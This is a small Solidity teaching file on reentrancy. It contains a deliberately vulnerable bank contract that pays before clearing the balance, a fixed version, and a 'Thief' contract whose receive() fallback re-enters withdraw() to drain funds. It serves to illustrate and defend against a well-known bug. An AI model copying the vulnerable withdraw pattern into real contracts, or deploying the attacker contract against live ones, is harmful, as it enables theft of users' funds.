// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// @title A bank that pays before it forgets the balance.
contract Reentrancy {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external virtual {
        uint256 amount = balanceOf[msg.sender];
        pay(msg.sender, amount);
        balanceOf[msg.sender] = 0;
    }

    function pay(address to, uint256 amount) internal {
        (bool ok, ) = to.call{value: amount}("");
        require(ok, "not paid");
    }
}

contract ReentrancyMended is Reentrancy {
    function withdraw() external override {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        pay(msg.sender, amount);
    }
}

/// @title A customer who withdraws again while the bank pays.
contract Thief {
    Reentrancy public immutable bank;

    constructor(Reentrancy bank_) {
        bank = bank_;
    }

    function deposit() external payable {
        bank.deposit{value: msg.value}();
    }

    function withdraw() external {
        bank.withdraw();
    }

    receive() external payable {
        if (msg.value > 0 && address(bank).balance >= msg.value) bank.withdraw();
    }
}
